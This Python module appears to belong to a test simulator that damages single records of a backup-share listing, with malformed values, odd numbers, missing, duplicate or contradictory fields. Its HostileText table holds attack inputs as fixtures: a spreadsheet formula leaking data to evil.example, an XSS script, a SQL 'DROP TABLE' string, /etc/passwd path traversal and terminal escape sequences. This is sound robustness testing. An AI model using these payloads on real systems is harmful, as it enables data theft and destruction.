"""Damage to single records of a listing. The same record is damaged on whatever page it stands.

Which one: by its place among all records of the listing in ascending order of the share id.
Not here: what an undamaged record looks like (simulator/records.py), records broken for whole days (scenario.py).
"""

import json
from collections.abc import Mapping
from typing import Any, Literal

from pydantic import PositiveInt

from pipelines.simulator.behaviour import Behaviour, Call, parameters
from pipelines.simulator.listings import Query, Row
from pipelines.simulator.records import Record

_PLACEHOLDER = "a value that is put in as it is"

Field = str
"""A field of a share such as `id`, or one of its backup such as `backup.size`."""


@parameters
class RecordFault(Behaviour):
    """Every record is as it should be."""

    position: Literal["first", "middle", "last", "all"] = "middle"

    def damaged(self, record: Record, call: Call) -> Row:  # noqa: ARG002
        return record

    def page(self, page: list[Row], rows: list[Record], query: Query, call: Call) -> list[Row]:  # noqa: ARG002
        victims = self._victims(query, call)
        return [self.damaged(row, call) if isinstance(row, dict) and row["id"] in victims else row for row in page]

    def _victims(self, query: Query, call: Call) -> set[str]:
        rows = call.rows(Query(query.direction, (), "id", descending=False, limit=0, offset=0))
        if self.position == "all" or not rows:
            return {record["id"] for record in rows}
        return {rows[{"first": 0, "middle": len(rows) // 2, "last": -1}[self.position]]["id"]}


@parameters
class MalformedRecord(RecordFault):
    """One field has a wrong value; `value` is JSON, or whatever else is to stand in its place."""

    field: Field = "backup.size"
    value: str = '"twelve"'

    def damaged(self, record: Record, call: Call) -> Row:  # noqa: ARG002
        return _with_text(record, self.field, self.value)


@parameters
class OddNumber(RecordFault):
    """A number that is none, or more than a parser likes: `huge` has 5,000 digits."""

    kind: Literal["nan", "infinity", "minus-infinity", "huge", "exponent", "leading-zero"] = "nan"
    field: Field = "backup.size"

    def damaged(self, record: Record, call: Call) -> Row:  # noqa: ARG002
        text = {
            "nan": "NaN",
            "infinity": "Infinity",
            "minus-infinity": "-Infinity",
            "huge": "9" * 5_000,
            "exponent": "1e400",
            "leading-zero": "007",
        }
        return _with_text(record, self.field, text[self.kind])


@parameters
class MissingField(RecordFault):
    """A field is missing; `backup` is one of them."""

    field: Field = "backup_id"

    def damaged(self, record: Record, call: Call) -> Row:  # noqa: ARG002
        outer, _, inner = self.field.partition(".")
        if inner:
            return {**record, outer: {name: value for name, value in record[outer].items() if name != inner}}
        return {name: value for name, value in record.items() if name != outer}


@parameters
class UnknownFields(RecordFault):
    """So many fields that nobody knows, with names of so many bytes."""

    where: Literal["share", "backup"] = "share"
    count: PositiveInt = 1
    name_bytes: PositiveInt = 20

    def damaged(self, record: Record, call: Call) -> Row:  # noqa: ARG002
        new = {f"new_{number}".ljust(self.name_bytes, "x"): {"value": number} for number in range(self.count)}
        return {**record, **new} if self.where == "share" else {**record, "backup": {**record["backup"], **new}}


@parameters
class DuplicateKeys(RecordFault):
    """The record names this field twice, the second time with another value."""

    field: Field = "id"

    def damaged(self, record: Record, call: Call) -> Row:  # noqa: ARG002
        outer, _, inner = self.field.partition(".")
        again = {_PLACEHOLDER: "another"}
        changed = {**record, outer: {**record[outer], **again}} if inner else {**record, **again}
        return _record_text(changed, json.dumps(inner or outer))


@parameters
class OtherBackupId(RecordFault):
    """The id in the nested backup is not the `backup_id` of the share."""

    def damaged(self, record: Record, call: Call) -> Row:  # noqa: ARG002
        return {**record, "backup": {**record["backup"], "id": "00000000-0000-4000-8000-000000000000"}}


@parameters
class BothSpellings(RecordFault):
    """`has_dependent_backup` and `has_dependent_backups` contradict each other."""

    def damaged(self, record: Record, call: Call) -> Row:  # noqa: ARG002
        both = {"has_dependent_backup": True, "has_dependent_backups": False}
        return {**record, "backup": {**record["backup"], **both}}


@parameters
class HostileText(RecordFault):
    """A text that somebody wrote to do harm, or that is hard to keep: `long` has 10 million characters."""

    kind: Literal["ansi", "bidi", "nul", "surrogate", "formula", "script", "newline", "sql", "path", "long"] = "ansi"
    field: Field = "backup.name"

    def damaged(self, record: Record, call: Call) -> Row:  # noqa: ARG002
        return _with_text(record, self.field, json.dumps(_HOSTILE.get(self.kind) or "x" * 10_000_000))


_HOSTILE: Mapping[str, str] = {
    "ansi": "\x1b[2J\x1b]0;owned\x07nightly\x9b31m",
    "bidi": "invoice\u202egpj.exe\u2066",
    "nul": "night\x00ly",
    "surrogate": "night\ud800ly",
    "formula": '=HYPERLINK("http://evil.example/?leak="&A1,"open")',
    "script": "<script>alert(document.domain)</script><img src=x onerror=alert(1)>",
    "newline": "nightly\r\n2026-03-01 INFO all listings proven\u2028",
    "sql": "'; DROP TABLE backup_history; --",
    "path": "../../../../etc/passwd",
}


def _with_text(record: Record, field: Field, text: str) -> bytes:
    """The record with this text, unquoted, as the value of a field."""
    outer, _, inner = field.partition(".")
    value: Any = {**record[outer], inner: _PLACEHOLDER} if inner else _PLACEHOLDER
    return _record_text({**record, outer: value}, text)


def _record_text(record: Record, text: str) -> bytes:
    """The record as it is written, with `text` in place of the placeholder."""
    return json.dumps(record).replace(json.dumps(_PLACEHOLDER), text).encode()


KINDS = (
    MalformedRecord,
    OddNumber,
    MissingField,
    UnknownFields,
    DuplicateKeys,
    OtherBackupId,
    BothSpellings,
    HostileText,
)
